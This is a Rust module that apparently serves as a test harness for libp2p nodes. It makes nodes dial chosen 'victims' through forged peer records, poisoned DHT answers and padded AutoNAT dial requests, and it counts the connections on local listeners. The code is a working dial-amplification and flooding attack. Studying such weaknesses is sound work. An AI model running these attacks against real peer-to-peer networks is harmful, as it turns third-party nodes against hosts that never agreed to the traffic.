//! Attacks on others through a node: it is told to dial them.
//!
//! Whoever attacks as a server prints first where it is found. Then comes `answered` each time that it has named the victims,
//! and `reached HOW ADDRESS` for each connection that a victim gets. SIGTERM ends it, when all of these are printed.

use std::io;
use std::net::IpAddr;
use std::sync::Arc;
use std::sync::atomic::{AtomicUsize, Ordering};

use futures::{AsyncReadExt as _, AsyncWriteExt as _, StreamExt as _};
use libp2p::core::PeerRecord;
use libp2p::identity::Keypair;
use libp2p::swarm::dial_opts::DialOpts;
use libp2p::swarm::{NetworkBehaviour, SwarmEvent};
use libp2p::{Multiaddr, PeerId, Stream, StreamProtocol, Swarm, identify};
use tokio::net::TcpListener;
use tokio::signal::unix::{SignalKind, signal};
use tokio::sync::{mpsc, watch};
use tokio::task::JoinSet;

use crate::places::{Aim, RANGES, forward};
use crate::wire::{Framing, field};

const KAD: StreamProtocol = StreamProtocol::new("/autonet/kad/1.0.0");
const DIAL_REQUEST: StreamProtocol = StreamProtocol::new("/libp2p/autonat/2/dial-request");
/// The types of requests that are answered, and an answer of the blob protocol: nothing is found.
const PEERS: u8 = 3;
const GET_PROVIDERS: u8 = 3;
const NOT_FOUND: [u8; 1] = [1];
/// The last name of a flood, counted from 0, and how many an answer has.
const LAST_NAME: u8 = 255;
const NAMES_PER_ANSWER: usize = 32;
/// Addresses in a record besides the one that is at one port, and the one that is its own.
const SHARED_ADDRESSES: usize = 14;

pub(crate) async fn run(attack: &str, target: &str, from: IpAddr, ips: &[String]) {
    let (end, ended) = watch::channel(());
    let mut victims = Victims { watched: JoinSet::new(), ended };
    let mut terminated = signal(SignalKind::terminate()).unwrap();
    let ips = ips.iter().map(|ip| ip.parse().unwrap()).collect::<Vec<IpAddr>>();
    let attack = async {
        match attack {
            "peers-flood" => answer_peers(many_names(&mut victims, &ips).await, from).await,
            "peers-nearby" => answer_peers(one_name_each(&mut victims, &ips).await, from).await,
            "dht-nearby" => answer_searches(&mut victims, from, &ips).await,
            _ => ask_for_dials(&mut victims, target, from, &ips).await,
        }
    };
    tokio::select! {
        () = attack => {}
        _ = terminated.recv() => {}
    }
    drop(end);
    victims.watched.join_all().await;
}

/// Those whom a node is told to dial. They are no peers: they close each connection at once.
struct Victims {
    watched: JoinSet<()>,
    /// Nothing is sent: it is closed when the attack is over.
    ended: watch::Receiver<()>,
}

impl Victims {
    /// One more victim, named in this way; where it is.
    async fn add(&mut self, how: &'static str, ip: IpAddr) -> Multiaddr {
        let listener = TcpListener::bind((ip, 0)).await.unwrap();
        let at = listener.local_addr().unwrap();
        let mut ended = self.ended.clone();
        self.watched.spawn(async move {
            loop {
                tokio::select! {
                    accepted = listener.accept() => drop(accepted.unwrap()),
                    _ = ended.changed() => break,
                }
                println!("reached {how} {at}");
            }
            // Those that wait have come before the end, too.
            let listener = listener.into_std().unwrap();
            while listener.accept().is_ok() {
                println!("reached {how} {at}");
            }
        });
        Multiaddr::from(ip).with(libp2p::multiaddr::Protocol::Tcp(at.port()))
    }
}

/// Records of names of which each has the same addresses and one of its own. The first victim is one port; the second one
/// address, at several ports; the third is where the names' own addresses begin.
async fn many_names(victims: &mut Victims, ips: &[IpAddr]) -> Vec<Vec<u8>> {
    let [port, address, IpAddr::V4(own)] = ips else { panic!("{ips:?}") };
    let mut shared = vec![victims.add("port", *port).await];
    for _ in 0..SHARED_ADDRESSES {
        shared.push(victims.add("address", *address).await);
    }
    let mut records = Vec::new();
    for number in 0..=LAST_NAME {
        let [a, b, c, _] = own.octets();
        let own = victims.add("name", [a, b, c, number].into()).await;
        records.push(record(shared.iter().cloned().chain([own]).collect()));
    }
    records
}

/// Records of names, each at one of the victims.
async fn one_name_each(victims: &mut Victims, ips: &[IpAddr]) -> Vec<Vec<u8>> {
    let mut records = Vec::new();
    for ip in ips {
        records.push(record(vec![victims.add("peer", *ip).await]));
    }
    records
}

/// A new name that is found at these addresses, as it says itself.
fn record(addrs: Vec<Multiaddr>) -> Vec<u8> {
    let record = PeerRecord::new(&Keypair::generate_ed25519(), addrs).unwrap();
    record.into_signed_envelope().into_protobuf_encoding()
}

/// Answers PEERS with these records, some at a time.
async fn answer_peers(records: Vec<Vec<u8>>, from: IpAddr) {
    let (records, next) = (Arc::new(records), Arc::new(AtomicUsize::new(0)));
    let mut swarm = crate::swarm(|_| libp2p_stream::Behaviour::new());
    let mut asked = swarm.behaviour().new_control().accept(RANGES).unwrap();
    listen(&mut swarm, from).await;
    let (tell_answered, mut answered) = mpsc::channel(16);
    loop {
        tokio::select! {
            _ = swarm.select_next_some() => {}
            Some((peer, stream)) = asked.next() => {
                let (records, next, answered) = (Arc::clone(&records), Arc::clone(&next), tell_answered.clone());
                tokio::spawn(async move {
                    if name_peers(stream, &records, &next).await.is_ok() {
                        let _ = answered.send(peer).await;
                    }
                });
            }
            // A node asks at once when it has connected, and then less and less often: it is made to connect again.
            Some(peer) = answered.recv() => drop(swarm.disconnect_peer_id(peer)),
        }
    }
}

/// Answers with the next names when it is asked for them, and then no more.
async fn name_peers(mut stream: Stream, records: &[Vec<u8>], next: &AtomicUsize) -> io::Result<()> {
    while Framing::Fixed.read(&mut stream).await?[0] != PEERS {
        Framing::Fixed.write(&mut stream, &NOT_FOUND).await?;
    }
    let first = next.fetch_add(NAMES_PER_ANSWER, Ordering::Relaxed);
    let mut answer = vec![0];
    let named = records.iter().cycle().skip(first % records.len());
    for record in named.take(NAMES_PER_ANSWER.min(records.len())) {
        answer.extend(u16::try_from(record.len()).unwrap().to_be_bytes());
        answer.extend(record);
    }
    Framing::Fixed.write(&mut stream, &answer).await?;
    println!("answered");
    // When the node gives the stream up because of that, it has read the answer.
    stream.close().await?;
    let mut rest = [0; 1024];
    while let Ok(1..) = stream.read(&mut rest).await {}
    Ok(())
}

/// A server of the DHT. It writes its answers itself.
#[derive(NetworkBehaviour)]
struct Server {
    identify: identify::Behaviour,
    streams: libp2p_stream::Behaviour,
}

/// Answers searches of the DHT with victims: each is a provider of what is searched, and another port of it a server that is
/// nearer to it.
async fn answer_searches(victims: &mut Victims, from: IpAddr, ips: &[IpAddr]) {
    let (mut providers, mut servers) = (Vec::new(), Vec::new());
    for ip in ips {
        providers.extend(field(9, &kad_peer(&victims.add("provider", *ip).await)));
        servers.extend(field(8, &kad_peer(&victims.add("server", *ip).await)));
    }
    let answer = Arc::new([servers, providers].concat());
    let mut swarm = crate::swarm(|key| Server {
        identify: identify::Behaviour::new(identify::Config::new("/attacker".to_owned(), key.public())),
        streams: libp2p_stream::Behaviour::new(),
    });
    let mut asked = swarm.behaviour().streams.new_control().accept(KAD).unwrap();
    listen(&mut swarm, from).await;
    loop {
        tokio::select! {
            _ = swarm.select_next_some() => {}
            Some((_, mut stream)) = asked.next() => {
                let answer = Arc::clone(&answer);
                tokio::spawn(async move {
                    while let Ok(request) = Framing::Varint.read(&mut stream).await {
                        // It begins with its type, and so does the answer.
                        let answer = [&request[..2], &answer].concat();
                        if Framing::Varint.write(&mut stream, &answer).await.is_ok() && request[1] == GET_PROVIDERS {
                            println!("answered");
                        }
                    }
                });
            }
        }
    }
}

/// Somebody at this address, as the DHT names peers.
fn kad_peer(addr: &Multiaddr) -> Vec<u8> {
    [field(1, &PeerId::random().to_bytes()), field(2, &addr.to_vec())].concat()
}

/// Asks a server of AutoNAT for a dial to each of the victims.
async fn ask_for_dials(victims: &mut Victims, target: &str, from: IpAddr, ips: &[IpAddr]) {
    let aim = Aim::at(target, from);
    let mut swarm = crate::swarm(|_| libp2p_stream::Behaviour::new());
    let mut control = swarm.behaviour().new_control();
    let way = forward(aim.clone()).await;
    swarm.dial(DialOpts::peer_id(aim.peer).addresses(vec![way]).build()).unwrap();
    while !matches!(swarm.select_next_some().await, SwarmEvent::ConnectionEstablished { .. }) {}
    tokio::spawn(async move { while swarm.next().await.is_some() {} });
    for ip in ips {
        let addr = victims.add("dial-back", *ip).await;
        let mut stream = control.open_stream(aim.peer, DIAL_REQUEST).await.unwrap();
        let nonce = [&[0x11], &[7; 8][..]].concat();
        let request = [field(1, &addr.to_vec()), nonce].concat();
        Framing::Varint.write(&mut stream, &field(1, &request)).await.unwrap();
        // The server wants up to 100,000 bytes before it dials an address that is not where the asker comes from.
        for _ in 0..25 {
            Framing::Varint.write(&mut stream, &field(4, &field(1, &[0; 4096]))).await.unwrap();
        }
        let mut answer = Framing::Varint.read(&mut stream).await.unwrap();
        while answer[0] != 0x12 {
            answer = Framing::Varint.read(&mut stream).await.unwrap();
        }
        // Its status is 200: the server has tried, whatever came of it.
        assert_eq!(answer[2..5], [0x08, 0xC8, 0x01], "{answer:?}");
        println!("answered");
    }
    std::future::pending().await
}

/// Listens there, and prints where.
pub(crate) async fn listen<B: NetworkBehaviour>(swarm: &mut Swarm<B>, ip: IpAddr) {
    swarm.listen_on(Multiaddr::from(ip).with(libp2p::multiaddr::Protocol::Tcp(0))).unwrap();
    loop {
        if let SwarmEvent::NewListenAddr { address, .. } = swarm.select_next_some().await {
            return println!("{address}/p2p/{}", swarm.local_peer_id());
        }
    }
}
